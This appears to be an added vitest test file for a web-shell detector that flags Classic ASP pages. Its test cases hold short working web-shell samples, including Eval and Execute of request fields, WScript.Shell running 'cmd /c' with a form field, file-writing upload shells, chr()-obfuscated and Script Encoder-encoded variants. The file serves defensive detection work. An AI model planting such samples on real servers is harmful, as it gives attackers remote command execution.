@@ -1,0 +1,120 @@
+/**
+ * Classic ASP's idioms (issue 27): request("x") handed to Execute/Eval, to WScript.Shell, or
+ * as the name of a file FileSystemObject or ADODB.Stream writes; names folded from chr()
+ * pieces; pages hidden by the Script Encoder (VBScript.Encode) decoded first. The encoded
+ * samples are made here, by the inverse of the decoder's table, from text written here.
+ */
+import { describe, expect, it } from 'vitest';
+import { judgeWebShell } from '../../src/findings/web-shell.js';
+import { foldVbStrings } from '../../src/findings/web-shell/classic-asp.js';
+import { decodeEncodedScripts } from '../../src/findings/web-shell/script-encoded.js';
+import { addedFile, fileMeta } from '../support/change-facts.js';
+
+const judge = (path: string, text: string) =>
+  judgeWebShell(addedFile(path, text, { current: fileMeta({ sizeBytes: text.length }) }), false);
+
+/** The Script Encoder's output for `plain`, found by decoding every candidate (test only). */
+function encode(plain: string): string {
+  let data = '';
+  for (const c of plain) {
+    if (c === '\n') {
+      data += '@&';
+      continue;
+    }
+    // The character that decodes to `c` at this position: try each printable candidate.
+    const probe = (x: string) => decodeEncodedScripts(`#@~^AAAAAA==${data}${x}AAAAAA==^#~@`);
+    const want = decodeEncodedScripts(`#@~^AAAAAA==${data}AAAAAA==^#~@`) + c;
+    const found = [9, ...Array.from({ length: 96 }, (_, i) => 32 + i)]
+      .map((code) => String.fromCharCode(code))
+      .find((x) => !'<>@'.includes(x) && probe(x) === want);
+    if (found === undefined) throw new Error(`no encoding for ${JSON.stringify(c)}`);
+    data += found;
+  }
+  return `#@~^AAAAAA==${data}AAAAAA==^#~@`;
+}
+
+describe('classic ASP', () => {
+  it.each([
+    ['Eval of a request field through a variable', '<%\ndim x\nx = request("h")\neval x\n%>'],
+    ['ExecuteGlobal of a reversed field', '<% a=request(chr(97)) ExecuteGlobal(StrReverse(a)) %>'],
+    [
+      'Execute of a session filled from the request',
+      '<%if request("k")<>""then session("k")=request("k"):end if:if session("k")<>"" then execute session("k")%>',
+    ],
+    [
+      'a ScriptControl fed a statement spelt with chr()',
+      '<% Set o = Server.CreateObject("MSScriptControl.ScriptControl")\no.ExecuteStatement("ev"&chr(97)&"l(req"&chr(117)&"est(""p""))") %>',
+    ],
+    [
+      'WScript.Shell running a form field',
+      '<% Set sh = Server.CreateObject("WScript.Shell")\nSet e = sh.Exec("cmd /c " & Request.Form("c"))\nResponse.Write e.StdOut.ReadAll %>',
+    ],
+    [
+      'FileSystemObject writing the file the visitor names',
+      '<% p = Request.Form("path")\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.CreateTextFile(p, True)\nf.Write Request.Form("body") %>',
+    ],
+    [
+      'ADODB.Stream saving an upload where the visitor says',
+      '<% Set s = Server.CreateObject("ADODB.Stream")\ns.Type = 1: s.Open: s.Write Request.BinaryRead(Request.TotalBytes)\ns.SaveToFile Server.MapPath(Request.QueryString("f")), 2 %>',
+    ],
+    [
+      'Execute of code the page decodes with a function of its own',
+      '<%Execute(DeAsc("%119%136%115")):Function DeAsc(Str):Str=Split(Str,"%"):For I=1 To Ubound(Str):DeAsc=DeAsc&Chr(Str(I)-18):Next:End Function%>',
+    ],
+    ['Execute of an unescaped string', '<%execute(unescape("eval%20request%28%22a%22%29"))%>'],
+    [
+      'the request written into a page it names',
+      '<% if request("t")<>"" then\nbody=request("t")\nset fso=Server.CreateObject("Scripting.FileSystemObject")\nset f=fso.CreateTextFile(Server.MapPath("up1oad.asp"))\nf.Write(body)\nend if %>',
+    ],
+  ])('calls %s a web shell', (_, text) => {
+    expect(judge('/opt/x.asp', text)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/classic ASP/),
+    });
+  });
+
+  it.each([
+    [
+      'a page reading a form field and writing a log of its own name',
+      '<% n = Request.Form("name")\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.OpenTextFile(Server.MapPath("log.txt"), 8, True)\nf.WriteLine n %>',
+    ],
+    ['a page evaluating a constant', '<% x = Request("id")\nResponse.Write Eval("1 + 2") %>'],
+    [
+      'a page echoing a field and saving a text log',
+      '<% n = Request("n")\nResponse.Write(n)\nSet fs = CreateObject("Scripting.FileSystemObject")\nSet f = fs.CreateTextFile(Server.MapPath("visits.txt"))\nf.Write(n) %>',
+    ],
+    [
+      'a page running a fixed program',
+      '<% Set sh = CreateObject("WScript.Shell")\nsh.Run "cmd /c cleanup.bat", 0\nResponse.Write Request("id") %>',
+    ],
+  ])('does not call %s a web shell', (_, text) => {
+    expect(judge('/opt/y.asp', text)?.severity ?? 'none').not.toMatch(/high|critical/);
+  });
+
+  it('folds strings joined from chr() pieces, and nothing else', () => {
+    expect(foldVbStrings('x = "ex"&chr(101)&"cute" & y')).toBe(
+      'x = "exdecute" & y'.replace('d', ''),
+    );
+    expect(foldVbStrings('x = "a" & Chr(&H22) & "b"')).toBe('x = "a""b"');
+    expect(foldVbStrings('x = "one" & y & "two"')).toBe('x = "one" & y & "two"');
+  });
+
+  it('decodes a VBScript.Encode page and judges what IIS will run', () => {
+    const code = 'ExecuteGlobal request("pass")\n';
+    const page = `<%@ LANGUAGE = "VBScript.Encode" %>\n<%${encode(code)}%>`;
+    expect(decodeEncodedScripts(page)).toBe(`<%@ LANGUAGE = "VBScript.Encode" %>\n<%${code}%>`);
+    expect(judge('/opt/e.asp', page)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/Script Encoder/),
+    });
+  });
+
+  it('decodes hostile blocks in bounded time: cut, empty, many', () => {
+    expect(decodeEncodedScripts('#@~^')).toBe('');
+    expect(decodeEncodedScripts('a#@~^AAAAAA==@')).toBe('a@');
+    const many = '#@~^AAAAAA==xAAAAAA==^#~@'.repeat(5000);
+    const started = performance.now();
+    expect(decodeEncodedScripts(many).length).toBeLessThan(many.length);
+    expect(performance.now() - started).toBeLessThan(500);
+  });
+});
